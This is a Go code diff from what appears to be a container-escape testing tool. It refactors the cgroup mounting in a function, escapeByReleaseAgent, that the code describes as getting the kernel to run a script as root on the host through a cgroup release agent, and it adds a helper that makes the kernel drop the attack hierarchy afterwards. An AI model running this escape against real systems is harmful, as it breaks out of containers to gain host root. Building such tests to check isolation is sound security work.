@@ -160,6 +160,23 @@ func (c engineClient) text(path string) (string, error) {
 	return string(content[8:]), nil
 }
 
+const hierarchy, hierarchyName = "/tmp/attack-cgroup", "name=appengine-attack"
+
+func mountHierarchy() error {
+	return syscall.Mount("attack", hierarchy, "cgroup", 0, "none,"+hierarchyName)
+}
+
+// removeHierarchy makes the kernel forget the hierarchy, which it keeps at an unmount as long as it has not let go of a group that was in it.
+func removeHierarchy() {
+	for range 50 {
+		syscall.Unmount(hierarchy, 0)
+		time.Sleep(100 * time.Millisecond)
+		if own, err := os.ReadFile("/proc/self/cgroup"); err != nil || !strings.Contains(string(own), hierarchyName) || mountHierarchy() != nil {
+			return
+		}
+	}
+}
+
 // escapeByReleaseAgent lets the kernel run a script as root on the host: a cgroup hierarchy of its own names the script, and the kernel starts it in
 // the host's namespaces when the last process of a group ends.
 func escapeByReleaseAgent(flags *flag.FlagSet, args []string) (verdict, error) {
@@ -167,15 +184,15 @@ func escapeByReleaseAgent(flags *flag.FlagSet, args []string) (verdict, error) {
 	if err := parse(flags, args); err != nil {
 		return verdict{}, err
 	}
-	const hierarchy, script, loot = "/tmp/attack-cgroup", "/tmp/attack-script", "/tmp/attack-loot"
+	const script, loot = "/tmp/attack-script", "/tmp/attack-loot"
 	if err := os.MkdirAll(hierarchy, 0o755); err != nil {
 		return stopped("creating a mount point", err)
 	}
 	defer os.Remove(hierarchy)
-	if err := syscall.Mount("attack", hierarchy, "cgroup", 0, "none,name=appengine-attack"); err != nil {
+	if err := mountHierarchy(); err != nil {
 		return stopped("mount(cgroup)", err)
 	}
-	defer syscall.Unmount(hierarchy, 0)
+	defer removeHierarchy()
 	layer, err := writableLayer()
 	if err != nil {
 		return verdict{}, err
